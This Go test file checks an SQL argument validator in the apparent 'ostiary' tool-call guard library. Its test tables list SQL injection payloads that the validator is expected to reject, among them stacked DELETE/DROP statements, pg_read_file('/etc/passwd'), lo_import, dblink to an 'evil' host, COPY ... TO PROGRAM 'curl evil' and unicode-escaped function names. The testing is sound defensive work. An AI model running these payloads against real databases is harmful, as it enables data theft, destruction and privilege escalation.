package validate_test

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"runtime/debug"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/ostiary/ostiary"
	"github.com/ostiary/ostiary/validate"
	"github.com/ostiary/ostiary/validate/sqlhelper"
)

const serveWord = "serve-sql-helper"

// TestServeSQLHelper is no test: it is the helper process of the others, which
// start the test binary again with this word.
func TestServeSQLHelper(t *testing.T) {
	if !slices.Contains(flag.Args(), serveWord) {
		t.Skip("only for the helper process")
	}
	if err := sqlhelper.Serve(os.Stdin, os.Stdout); err != nil {
		os.Exit(1)
	}
	os.Exit(0)
}

var sharedHelper struct {
	sync.Once
	h *sqlhelper.Helper
}

func postgresParser(t testing.TB) validate.SQLParser {
	t.Helper()
	sharedHelper.Do(func() {
		program := os.Args[0]
		if info, ok := debug.ReadBuildInfo(); ok && slices.Contains(info.Settings, debug.BuildSetting{Key: "-race", Value: "true"}) {
			// Loading the grammar takes minutes under the race detector: the child runs
			// without.
			dir, err := os.MkdirTemp("", "sqlhelper")
			if err != nil {
				t.Fatal(err)
			}
			program = filepath.Join(dir, "validate.test")
			if out, err := exec.Command("go", "test", "-c", "-o", program, ".").CombinedOutput(); err != nil {
				t.Fatalf("%v: %s", err, out)
			}
			defer os.RemoveAll(dir) // it runs by then
		}
		h, err := sqlhelper.New(sqlhelper.Options{Command: []string{program, "-test.run=^TestServeSQLHelper$", serveWord}})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := h.Parse(context.Background(), "postgresql", "SELECT 1"); err != nil {
			t.Fatal(err)
		}
		sharedHelper.h = h
	})
	return sharedHelper.h.Parse
}

// checkSQL compiles a rule and returns what it says about a text.
func checkSQL(t testing.TB, s validate.SQL) func(text any) error {
	t.Helper()
	o := validate.Options{}
	if s.Dialect == "postgresql" {
		o.SQL = postgresParser(t)
	}
	checks, err := validate.Compile(validate.Argument{Pointer: "/q", SQL: &s}, ostiary.Tool{}, o)
	if err != nil {
		t.Fatal(err)
	}
	return func(text any) error {
		return checks[0].Run(context.Background(), &ostiary.Call{Args: map[string]any{"q": text}})
	}
}

// naive is the guard that people write first: the positive control of the
// attacks below.
func naive(text string) bool {
	low := strings.ToLower(strings.TrimLeft(text, " \t\n("))
	return strings.HasPrefix(low, "select") || strings.HasPrefix(low, "with") || strings.HasPrefix(low, "explain") || strings.HasPrefix(low, "values")
}

func TestSQLPostgresAttacks(t *testing.T) {
	check := checkSQL(t, validate.SQL{Dialect: "postgresql", Tables: []string{"users", "app.orders"}})
	for _, c := range []struct{ text, want string }{
		{"SELECT 1; DELETE FROM users", "2 statements"},
		{"SELECT 1; -- x\nDELETE FROM users", "2 statements"},
		{"SELECT 1;/* ; */DROP TABLE users;", "2 statements"},
		{"WITH x AS (DELETE FROM users RETURNING *) SELECT * FROM x", "does delete"},
		{"WITH x AS (INSERT INTO users VALUES (1)) SELECT 1", "does insert"},
		{"WITH x AS (SELECT 1) UPDATE users SET admin = true", "does update"},
		{"EXPLAIN ANALYZE DELETE FROM users", "does delete, explain"},
		{"EXPLAIN SELECT 1", "does explain"},
		{"SELECT * INTO stolen FROM users", "does ddl"},
		{"SELECT * FROM users FOR UPDATE", "does update"},
		{"SELECT * FROM users FOR KEY SHARE", "does update"},
		{"SELECT pg_read_file('/etc/passwd')", `"pg_read_file"`},
		{"SELECT pg_catalog.pg_read_file('/etc/passwd')", `"pg_catalog.pg_read_file"`},
		{"SELECT pg_sleep(3600) FROM users", `"pg_sleep"`},
		{"SELECT lo_import('/etc/passwd')", `"lo_import"`},
		{"SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)", `"dblink"`},
		{"SELECT query_to_xml('delete from users', true, true, '')", `"query_to_xml"`},
		{"SELECT set_config('role', 'postgres', false)", `"set_config"`},
		{"SELECT evil.lower('x')", `"evil.lower"`},
		{"SELECT 1 WHERE 1 OPERATOR(evil.=) 1", `"evil.="`},
		{"SELECT f.pg_read_file FROM lower('/etc/hostname') f", `"pg_read_file"`},
		{"SELECT ('/etc/hostname'::text).pg_read_file", `"pg_read_file"`},
		{"SELECT 'pg_authid'::regclass", `"regclass"`},
		{"SELECT U&\"pg\\005fread\\005ffile\"('/etc/passwd')", `"pg_read_file"`},
		{"SELECT * FROM secrets", `"secrets"`},
		{"SELECT * FROM users WHERE id IN (SELECT id FROM secrets)", `"secrets"`},
		{"SELECT (SELECT x FROM evil.users LIMIT 1)", `"evil.users"`},
		{"SELECT * FROM orders", `"orders"`}, // only app.orders is listed
		{"SELECT * FROM pg_shadow", `"pg_shadow"`},
		{"SELECT * FROM (WITH secrets AS (SELECT 1) SELECT * FROM secrets) x, secrets", `"secrets"`},
		{`SELECT * FROM "Users"`, `"Users"`},
		{`SELECT '\' , ' || pg_sleep(1) --'`, "backslash"},
		{"SELECT 1 /*!50000 ; DELETE FROM users */", "some programs execute"},
		{"SELECT 1 /*+ Set(role postgres) */", "some programs execute"},
		{"WITH x AS (SELECT 1) MERGE INTO users USING x ON true WHEN MATCHED THEN DELETE", "does delete, merge"},
	} {
		if !naive(c.text) {
			t.Errorf("control: the naive guard refuses %s", c.text)
		}
		if err := check(c.text); !errors.Is(err, ostiary.CodeValidateSQL) || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s\n%v, want %q", c.text, err, c.want)
		}
	}
	for _, text := range []string{
		"COPY users TO PROGRAM 'curl evil'", "DO $$BEGIN DELETE FROM users; END$$", "CALL p()", "SET ROLE postgres", "RESET ALL", "PREPARE p AS DELETE FROM users",
		"EXECUTE p", "LISTEN x", "NOTIFY x", "LOCK users", "TABLE secrets", "SELEC 1", "", " ", ";", "-- x", "SELECT 1\x00; DELETE FROM users",
		"SELECT '\xff'", "SELECT " + strings.Repeat("(", 500) + "1" + strings.Repeat(")", 500), "SELECT '" + strings.Repeat("x", 17<<10) + "'", "\\! id",
	} {
		if err := check(text); !errors.Is(err, ostiary.CodeValidateSQL) {
			t.Errorf("%.60q: %v", text, err)
		}
	}
	for _, text := range []string{
		"SELECT count(*), lower(name) FROM users u WHERE u.name LIKE 'a%' ORDER BY 1 LIMIT 10",
		"select * from public.users join app.orders o on o.user_id = users.id;",
		"WITH x AS (SELECT id FROM users) SELECT * FROM x -- the newest; only",
		"SELECT $$;DELETE FROM users$$, E'a\\\\b', date '2026-01-01', 1::numeric(10,2), current_date",
		"SELECT sum(a) OVER (PARTITION BY b), CASE WHEN a THEN 1 END, coalesce(a, b), extract(year FROM c), position('a' IN d) FROM users",
	} {
		if err := check(text); err != nil {
			t.Errorf("%s\n%v", text, err)
		}
	}
	for _, v := range []any{nil, true, []any{"SELECT 1"}, map[string]any{}} {
		if err := check(v); !errors.Is(err, ostiary.CodeValidateSQL) {
			t.Errorf("%v: %v", v, err)
		}
	}
}

func TestSQLLists(t *testing.T) {
	for _, c := range []struct {
		rule validate.SQL
		text string
		ok   bool
	}{
		{validate.SQL{Dialect: "postgresql"}, "SELECT * FROM anything.atall", true},
		{validate.SQL{Dialect: "postgresql"}, "SELECT * FROM pg_user", false},
		{validate.SQL{Dialect: "postgresql"}, "SELECT * FROM pg_catalog.pg_user", false},
		{validate.SQL{Dialect: "postgresql"}, "SELECT * FROM information_schema.tables", false},
		{validate.SQL{Dialect: "postgresql", Tables: []string{"information_schema.tables"}}, "SELECT * FROM information_schema.tables", true},
		{validate.SQL{Dialect: "postgresql", Tables: []string{`"Users"`}}, `SELECT * FROM "Users"`, true},
		{validate.SQL{Dialect: "postgresql", Tables: []string{`"Users"`}}, `SELECT * FROM users`, false},
		{validate.SQL{Dialect: "postgresql", Functions: []string{}}, "SELECT lower('x')", false},
		{validate.SQL{Dialect: "postgresql", Functions: []string{"default", "app.f"}}, "SELECT app.f(lower('x'))", true},
		{validate.SQL{Dialect: "postgresql", Functions: []string{"app.f"}}, "SELECT app.f(lower('x'))", false},
		{validate.SQL{Dialect: "postgresql", Statements: []string{"insert"}}, "INSERT INTO t VALUES (1, DEFAULT)", true},
		{validate.SQL{Dialect: "postgresql", Statements: []string{"insert"}}, "INSERT INTO t SELECT * FROM u", false},
		{validate.SQL{Dialect: "postgresql", Statements: []string{"insert"}}, "INSERT INTO t VALUES (1) RETURNING *", false},
		{validate.SQL{Dialect: "postgresql", Statements: []string{"insert"}}, "INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET a = 1", false},
		{validate.SQL{Dialect: "sqlite", Statements: []string{"insert"}}, "REPLACE INTO t VALUES (1)", false},
		{validate.SQL{Dialect: "sqlite", Tables: []string{"Users"}}, `SELECT * FROM "USERS", main.users`, true},
		{validate.SQL{Dialect: "sqlite", Tables: []string{"users"}}, `SELECT * FROM temp.users`, false},
	} {
		if err := checkSQL(t, c.rule)(c.text); (err == nil) != c.ok {
			t.Errorf("%+v: %s: %v", c.rule, c.text, err)
		}
	}
	// Without a parser everything is denied.
	checks, err := validate.Compile(validate.Argument{Pointer: "/q", SQL: &validate.SQL{Dialect: "postgresql"}}, ostiary.Tool{}, validate.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if err := checks[0].Run(t.Context(), &ostiary.Call{Args: map[string]any{"q": "SELECT 1"}}); !errors.Is(err, ostiary.CodeValidateSQL) {
		t.Error(err)
	}
}

func TestSQLRefusedAtLoad(t *testing.T) {
	for _, s := range []validate.SQL{
		{}, {Dialect: "mysql"}, {Dialect: "PostgreSQL"},
		{Dialect: "sqlite", Statements: []string{"pragma"}}, {Dialect: "sqlite", Statements: []string{"merge"}}, {Dialect: "postgresql", Statements: []string{"copy"}},
		{Dialect: "sqlite", Tables: []string{"a.b.c"}}, {Dialect: "sqlite", Tables: []string{""}}, {Dialect: "sqlite", Tables: []string{"app.*"}},
		{Dialect: "sqlite", Tables: []string{`"a`}}, {Dialect: "sqlite", Tables: []string{`"a"b`}}, {Dialect: "sqlite", Functions: []string{"."}},
		{Dialect: "sqlite", MaxBytes: -1}, {Dialect: "sqlite", MaxBytes: 1 << 30},
	} {
		if _, err := validate.Compile(validate.Argument{Pointer: "/q", SQL: &s}, ostiary.Tool{}, validate.Options{}); err == nil {
			t.Errorf("%+v was loaded", s)
		}
	}
}

// A message never repeats a value of the text.
func TestSQLMessagesKeepValues(t *testing.T) {
	for _, dialect := range []string{"postgresql", "sqlite"} {
		check := checkSQL(t, validate.SQL{Dialect: dialect, Tables: []string{"t"}})
		for _, text := range []string{"SELECT 1 'hunter2' 'hunter2", "INSERT INTO u VALUES ('hunter2')", "SELECT 'x' FROM FROM 'hunter2'", "SELECT * FROM t WHERE 'hunter2' 'hunter2' SELECT"} {
			if err := check(text); err == nil || strings.Contains(fmt.Sprintf("%+v", ostiary.AsError(err)), "hunter2") {
				t.Errorf("%s %s: %v", dialect, text, err)
			}
		}
	}
}

func ExampleSQL() {
	checks, err := validate.Compile(validate.Argument{
		Pointer: "/query",
		SQL:     &validate.SQL{Dialect: "sqlite", Tables: []string{"orders"}},
	}, ostiary.Tool{}, validate.Options{})
	if err != nil {
		panic(err)
	}
	for _, q := range []string{"SELECT count(*) FROM orders", "WITH x AS (SELECT 1) DELETE FROM orders", "SELECT load_extension('evil')"} {
		err := checks[0].Run(context.Background(), &ostiary.Call{Args: map[string]any{"query": q}})
		fmt.Println(errors.Is(err, ostiary.CodeValidateSQL))
	}
	// Output:
	// false
	// true
	// true
}
